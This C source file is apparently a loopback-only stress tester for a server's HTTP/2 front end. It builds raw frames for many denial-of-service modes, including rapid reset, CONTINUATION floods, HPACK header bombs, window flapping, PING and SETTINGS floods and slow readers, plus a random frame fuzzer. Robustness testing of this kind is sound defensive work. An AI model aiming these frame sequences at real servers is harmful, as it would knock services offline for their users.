/* Attacks on the HTTP/2 front end, bounded in time, loopback only:
 *   http_attack MODE PORT SECONDS CONNECTIONS [SEED]
 * The connections reconnect when the server ends them. Prints what was sent as JSON. Modes are the rows of `modes` and "fuzz",
 * which sends valid and broken frames at random, mostly legal ones, with clients that read slowly or not at all. */

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>

#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH_BYTES 65536u
#define FRAME_SLACK 40000u /* the largest single step of any mode */
#define STREAM_MAX  0x7ffffff0u

struct attacker {
    int descriptor; /* -1: to be connected */
    uint32_t stream_id;
    bool is_started, is_slow;
    uint8_t *bytes;
    size_t count, sent;
};

static uint64_t random_state;
static unsigned long frame_count, request_count, connect_count, refused_count;
static uint16_t port;

static double seconds_now(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static uint32_t random_below(uint32_t limit)
{
    random_state ^= random_state << 13;
    random_state ^= random_state >> 7;
    random_state ^= random_state << 17;
    return (uint32_t)(random_state >> 20) % limit;
}

static void add_frame(struct attacker *a, uint8_t type, uint8_t flags, uint32_t stream_id,
                      const void *payload, size_t bytes)
{
    uint8_t *at = a->bytes + a->count;
    const uint8_t head[9] = {(uint8_t)(bytes >> 16),
                             (uint8_t)(bytes >> 8),
                             (uint8_t)bytes,
                             type,
                             flags,
                             (uint8_t)(stream_id >> 24),
                             (uint8_t)(stream_id >> 16),
                             (uint8_t)(stream_id >> 8),
                             (uint8_t)stream_id};
    memcpy(at, head, sizeof head);
    if (payload != NULL)
        memcpy(at + sizeof head, payload, bytes);
    else
        memset(at + sizeof head, 0, bytes);
    a->count += sizeof head + bytes;
    frame_count++;
}

static size_t build_headers(uint8_t *out, const char *path, bool is_post)
{
    size_t bytes = strlen(path);
    const uint8_t start[] = {is_post ? 0x83 : 0x82, 0x86, 0x01, 1, 'h', 0x04, (uint8_t)bytes};
    memcpy(out, start, sizeof start);
    memcpy(out + sizeof start, path, bytes);
    return sizeof start + bytes;
}

static void add_request(struct attacker *a, const char *path, bool is_post, uint8_t flags)
{
    uint8_t headers[300];
    size_t bytes = build_headers(headers, path, is_post);
    add_frame(a, 1, flags, a->stream_id, headers, bytes);
    a->stream_id += 2;
    request_count++;
}

/* --- modes: one step each --- */

static void step_rapid_reset(struct attacker *a)
{
    add_request(a, "/sse?n=1000&ms=50", false, 5);
    add_frame(a, 3, 0, a->stream_id - 2, "\0\0\0\x08", 4);
}

static void step_reset_by_window(struct attacker *a)
{
    add_request(a, "/slow", false, 5);
    add_frame(a, 8, 0, a->stream_id - 2, NULL, 4);
}

static void step_reset_by_overflow(struct attacker *a)
{
    add_request(a, "/slow", false, 5);
    add_frame(a, 8, 0, a->stream_id - 2, "\x7f\xff\xff\xff", 4);
    add_frame(a, 8, 0, a->stream_id - 2, "\x7f\xff\xff\xff", 4);
}

static void step_reset_by_data(struct attacker *a)
{
    add_request(a, "/slow", false, 5);
    add_frame(a, 0, 1, a->stream_id - 2, "x", 1);
}

static void step_reset_by_length(struct attacker *a)
{
    uint8_t headers[300];
    size_t bytes = build_headers(headers, "/echo", true);
    memcpy(headers + bytes,
           "\x0f\x0d\x01"
           "9",
           4);
    add_frame(a, 1, 4, a->stream_id, headers, bytes + 4);
    add_frame(a, 0, 1, a->stream_id, "short", 5);
    a->stream_id += 2;
    request_count++;
}

static void step_reset_by_priority(struct attacker *a)
{
    add_request(a, "/slow", false, 5);
    add_frame(a, 2, 0, a->stream_id - 2, NULL, 4);
}

static void step_continuation_empty(struct attacker *a)
{
    if (a->stream_id == 1)
        add_request(a, "/small", false, 1); /* without END_HEADERS */
    add_frame(a, 9, 0, 1, NULL, 0);
}

static void step_continuation_full(struct attacker *a)
{
    static uint8_t fields[16000];
    memset(fields, 0x82, sizeof fields);
    if (a->stream_id == 1)
        add_request(a, "/small", false, 1);
    add_frame(a, 9, 0, 1, fields, sizeof fields);
}

/* 16 kB of references to one large table entry, bodies never finished */
static void step_header_bomb(struct attacker *a)
{
    static uint8_t block[16384];
    size_t bytes = build_headers(block, "/echo", true);
    if (a->stream_id == 1) {
        const uint8_t entry[] = {0x40, 1, 'a', 0x7f, ((3900 - 127) & 127) | 128, (3900 - 127) >> 7};
        memcpy(block + bytes, entry, sizeof entry);
        memset(block + bytes + sizeof entry, 'v', 3900);
        bytes += sizeof entry + 3900;
    }
    memset(block + bytes, 0xbe, sizeof block - bytes);
    add_frame(a, 1, 4, a->stream_id, block, sizeof block);
    a->stream_id += 2;
    request_count++;
}

/* The same within the number of fields, but not of bytes. */
static void step_header_bomb_few(struct attacker *a)
{
    uint8_t block[6000];
    size_t bytes = build_headers(block, "/echo", true);
    if (a->stream_id == 1) {
        const uint8_t entry[] = {0x40, 1, 'a', 0x7f, ((3900 - 127) & 127) | 128, (3900 - 127) >> 7};
        memcpy(block + bytes, entry, sizeof entry);
        memset(block + bytes + sizeof entry, 'v', 3900);
        bytes += sizeof entry + 3900;
    }
    memset(block + bytes, 0xbe, 90);
    add_frame(a, 1, 4, a->stream_id, block, bytes + 90);
    a->stream_id += 2;
    request_count++;
}

static void step_table_flapping(struct attacker *a)
{
    uint8_t block[300] = {0x20, 0x3f, 0xe1, 0x1f};
    size_t bytes = build_headers(block + 4, "/small", false);
    add_frame(a, 1, 5, a->stream_id, block, bytes + 4);
    a->stream_id += 2;
    request_count++;
}

static void step_ping(struct attacker *a)
{
    add_frame(a, 6, 0, 0, "12345678", 8);
}

static void step_settings(struct attacker *a)
{
    add_frame(a, 4, 0, 0, NULL, 0);
}

static void step_window_flapping(struct attacker *a)
{
    if (a->stream_id < 100)
        add_request(a, "/sse?n=100000", false, 5);
    add_frame(a, 4, 0, 0, "\0\4\0\0\0\0", 6);
    add_frame(a, 4, 0, 0, "\0\4\x7f\xff\xff\xff", 6);
}

static void step_unknown(struct attacker *a)
{
    add_frame(a, 0x16, 0, 0, NULL, 0);
}

static void step_priority(struct attacker *a)
{
    uint32_t stream_id = 3 + 2 * random_below(16), parent = 3 + 2 * random_below(16);
    uint8_t payload[5] = {0x80, 0, 0, (uint8_t)(parent != stream_id ? parent : 0), 15};
    add_frame(a, 2, 0, stream_id, payload, sizeof payload);
}

static void step_data_empty(struct attacker *a)
{
    if (a->stream_id == 1)
        add_request(a, "/echo", true, 4);
    add_frame(a, 0, 0, 1, NULL, 0);
}

static void step_data_one(struct attacker *a)
{
    if (a->stream_id == 1)
        add_request(a, "/echo", true, 4);
    add_frame(a, 0, 0, 1, "x", 1);
}

static void step_data_padding(struct attacker *a)
{
    static uint8_t padded[256] = {255};
    if (a->stream_id == 1)
        add_request(a, "/echo", true, 4);
    add_frame(a, 0, 8, 1, padded, sizeof padded);
}

static void step_window_update(struct attacker *a)
{
    add_frame(a, 8, 0, 0, "\0\0\0\1", 4);
}

static void step_goaway(struct attacker *a)
{
    add_frame(a, 7, 0, 0, NULL, 8);
    add_request(a, "/small", false, 5);
}

static void step_uploads(struct attacker *a)
{
    add_request(a, "/echo", true, 4);
    for (unsigned i = 0; i < 2; i++)
        add_frame(a, 0, 0, a->stream_id - 2, NULL, 16384);
}

static void step_unread(struct attacker *a) /* used with is_slow: answers that nobody reads */
{
    add_request(a, "/sse?n=100000", false, 5);
    add_frame(a, 8, 0, a->stream_id - 2, "\x3f\xff\xff\xff", 4);
}

static void step_preface(struct attacker *a)
{
    memcpy(a->bytes + a->count, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    a->count += 24;
    frame_count++;
}

static const struct mode {
    const char *name;
    void (*step)(struct attacker *a);
} modes[] = {{"rapid_reset", step_rapid_reset},
             {"reset_by_window", step_reset_by_window},
             {"reset_by_overflow", step_reset_by_overflow},
             {"reset_by_data", step_reset_by_data},
             {"reset_by_length", step_reset_by_length},
             {"reset_by_priority", step_reset_by_priority},
             {"continuation_empty", step_continuation_empty},
             {"continuation_full", step_continuation_full},
             {"header_bomb", step_header_bomb},
             {"header_bomb_few", step_header_bomb_few},
             {"table_flapping", step_table_flapping},
             {"ping", step_ping},
             {"settings", step_settings},
             {"window_flapping", step_window_flapping},
             {"unknown", step_unknown},
             {"priority", step_priority},
             {"data_empty", step_data_empty},
             {"data_one", step_data_one},
             {"data_padding", step_data_padding},
             {"window_update", step_window_update},
             {"goaway", step_goaway},
             {"uploads", step_uploads},
             {"unread", step_unread},
             {"preface", step_preface}};

/* --- the fuzzer: mostly legal, so that it gets deep --- */

static size_t random_headers(uint8_t *out, bool is_post)
{
    static const char *const paths[] = {"/small", "/small", "/sse?n=30",     "/sse?n=400",
                                        "/echo",  "/nope",  "/sse?n=5&ms=1", "/abort"};
    size_t bytes = build_headers(out, paths[random_below(8)], is_post);
    if (random_below(4) == 0) {
        const uint8_t field[] = {0x40, 2, 'x', (uint8_t)('a' + random_below(26)), 3, 'a', 'b', 'c'};
        memcpy(out + bytes, field, sizeof field);
        bytes += sizeof field;
    }
    if (random_below(6) == 0)
        out[bytes++] = 0xbe;
    return bytes;
}

static void put_u32(uint8_t *out, uint32_t number)
{
    out[0] = (uint8_t)(number >> 24), out[1] = (uint8_t)(number >> 16),
    out[2] = (uint8_t)(number >> 8), out[3] = (uint8_t)number;
}

static void fuzz_post(struct attacker *a)
{
    uint8_t headers[300];
    size_t bytes = random_headers(headers, true);
    add_frame(a, 1, 4, a->stream_id, headers, bytes);
    if (random_below(2) == 0)
        add_frame(a, 0, 0, a->stream_id, "hello", 5);
    if (random_below(3) != 0)
        add_frame(a, 0, 1, a->stream_id, "end", 3);
    else if (random_below(3) == 0)
        add_frame(a, 1, 5, a->stream_id, "\0\2xy\1z", 6);
    a->stream_id += 2;
}

static void fuzz_settings(struct attacker *a)
{
    uint8_t payload[6] = {0, 4};
    put_u32(payload + 2, random_below(2) ? 1024 : random_below(65536));
    add_frame(a, 4, 0, 0, payload, sizeof payload);
}

static void fuzz_priority(struct attacker *a, uint32_t old)
{
    uint8_t payload[5];
    put_u32(payload, (random_below(2) ? 0x80000000u : 0) |
                         (random_below(2) ? 0 : 1 + 2 * random_below(a->stream_id / 2 + 10)));
    payload[4] = (uint8_t)random_below(256);
    add_frame(a, 2, 0, random_below(2) ? old : a->stream_id + 2 * random_below(10), payload,
              sizeof payload);
}

static void fuzz_garbage(struct attacker *a, uint32_t old)
{
    uint8_t payload[64];
    for (size_t i = 0; i < sizeof payload; i++)
        payload[i] = (uint8_t)random_below(256);
    add_frame(a, (uint8_t)random_below(12), (uint8_t)random_below(64), random_below(3) ? old : 0,
              payload, random_below(sizeof payload));
}

static void step_fuzz(struct attacker *a)
{
    uint8_t headers[300], number[4];
    uint32_t old = a->stream_id > 41 && random_below(2)
                       ? a->stream_id - 2 - 2 * random_below(20)
                       : 1 + 2 * random_below(a->stream_id / 2 + 1);
    unsigned choice = random_below(200);
    if (choice < 75) {
        add_frame(a, 1, 5, a->stream_id, headers, random_headers(headers, false));
        a->stream_id += 2;
    } else if (choice < 95) {
        fuzz_post(a);
    } else if (choice < 105) {
        put_u32(number, random_below(14));
        add_frame(a, 3, 0, old, number, 4);
    } else if (choice < 150) {
        put_u32(number, random_below(3) ? 1 + random_below(3000) : 1);
        add_frame(a, 8, 0, random_below(8) ? old : 0, number, 4);
    } else if (choice < 165) {
        fuzz_settings(a);
    } else if (choice < 180) {
        fuzz_priority(a, old);
    } else if (choice < 190) {
        step_ping(a);
    } else if (choice < 192 && random_below(4) == 0) {
        add_frame(a, 0, (uint8_t)random_below(2), old, "q", 1);
    } else if (choice < 194 && random_below(4) == 0) {
        add_frame(a, 8, 0, old, NULL, 4);
    } else if (choice < 195 && random_below(4) == 0) {
        fuzz_garbage(a, old);
    } else {
        step_unknown(a);
    }
}

/* --- connections --- */

static void start_batch(struct attacker *a, bool is_fuzz)
{
    memcpy(a->bytes, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    a->count = 24;
    a->stream_id = 1;
    a->is_started = true;
    uint8_t settings[6] = {0, 4};
    put_u32(settings + 2, !is_fuzz               ? 0x7fffffffu
                          : random_below(3) == 0 ? 1024
                                                 : random_below(70000));
    add_frame(a, 4, 0, 0, settings, sizeof settings);
    if (!is_fuzz || random_below(4) != 0)
        add_frame(a, 8, 0, 0, random_below(2) ? "\x7f\x0f\0\1" : "\0\x0f\0\1", 4);
}

static void connect_attacker(struct attacker *a, bool is_slow)
{
    struct sockaddr_in address = {
        .sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    a->descriptor = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    a->is_slow = is_slow;
    if (is_slow) {
        int small = 4096;
        setsockopt(a->descriptor, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    }
    connect_count++;
    if (connect(a->descriptor, (struct sockaddr *)&address, sizeof address) != 0) {
        refused_count++;
        close(a->descriptor);
        a->descriptor = -1;
        usleep(2000);
        return;
    }
    fcntl(a->descriptor, F_SETFL, O_NONBLOCK);
    a->is_started = false;
    a->count = a->sent = 0;
}

static bool receive(struct attacker *a)
{
    static uint8_t bytes[65536];
    ssize_t got = recv(a->descriptor, bytes, sizeof bytes, 0);
    return got > 0 || (got < 0 && errno == EAGAIN);
}

/* False: the connection is to be given up. */
static bool attack(struct attacker *a, void (*step)(struct attacker *), bool is_fuzz)
{
    if (a->sent == a->count) {
        a->sent = a->count = 0;
        if (!a->is_started)
            start_batch(a, is_fuzz);
        size_t batch = is_fuzz ? random_below(2000) + 50 : BATCH_BYTES;
        while (a->count < batch && a->stream_id < STREAM_MAX)
            step(a);
    }
    ssize_t sent = send(a->descriptor, a->bytes + a->sent, a->count - a->sent, MSG_NOSIGNAL);
    if (sent > 0)
        a->sent += (size_t)sent;
    if (sent < 0 && errno != EAGAIN)
        return false;
    bool is_tired =
        is_fuzz && (random_below(300) == 0 || (a->stream_id > 4000 && random_below(50) == 0));
    bool reads = !a->is_slow || (is_fuzz && random_below(40) == 0);
    return !is_tired && (!reads || receive(a));
}

int main(int count, char **texts)
{
    void (*step)(struct attacker *) = NULL;
    bool is_fuzz = count > 4 && strcmp(texts[1], "fuzz") == 0;
    for (size_t i = 0; count > 4 && i < sizeof modes / sizeof modes[0]; i++)
        if (strcmp(texts[1], modes[i].name) == 0)
            step = modes[i].step;
    if (is_fuzz)
        step = step_fuzz;
    if (step == NULL) {
        fprintf(stderr, "usage: http_attack MODE PORT SECONDS CONNECTIONS [SEED]\n");
        return 2;
    }
    port = (uint16_t)strtoul(texts[2], NULL, 10);
    double end = seconds_now() + strtod(texts[3], NULL);
    unsigned connections = (unsigned)strtoul(texts[4], NULL, 10);
    random_state = 88172645463325252ull + (count > 5 ? strtoull(texts[5], NULL, 10) : 0) * 7919;
    bool is_unread = strcmp(texts[1], "unread") == 0;
    struct attacker *attackers = calloc(connections, sizeof *attackers);
    for (unsigned i = 0; attackers != NULL && i < connections; i++) {
        attackers[i].descriptor = -1;
        attackers[i].bytes = malloc(BATCH_BYTES + FRAME_SLACK);
        if (attackers[i].bytes == NULL)
            return 1;
    }
    while (attackers != NULL && seconds_now() < end) {
        for (unsigned i = 0; i < connections; i++) {
            struct attacker *a = &attackers[i];
            if (a->descriptor < 0)
                connect_attacker(a, is_unread || (is_fuzz && random_below(3) != 0));
            if (a->descriptor >= 0 && !attack(a, step, is_fuzz)) {
                close(a->descriptor);
                a->descriptor = -1;
            }
        }
    }
    for (unsigned i = 0; attackers != NULL && i < connections; i++) {
        if (attackers[i].descriptor >= 0)
            close(attackers[i].descriptor);
        free(attackers[i].bytes);
    }
    free(attackers);
    printf("{\"frames\": %lu, \"requests\": %lu, \"connections\": %lu, \"refused\": %lu}\n",
           frame_count, request_count, connect_count, refused_count);
    return 0;
}
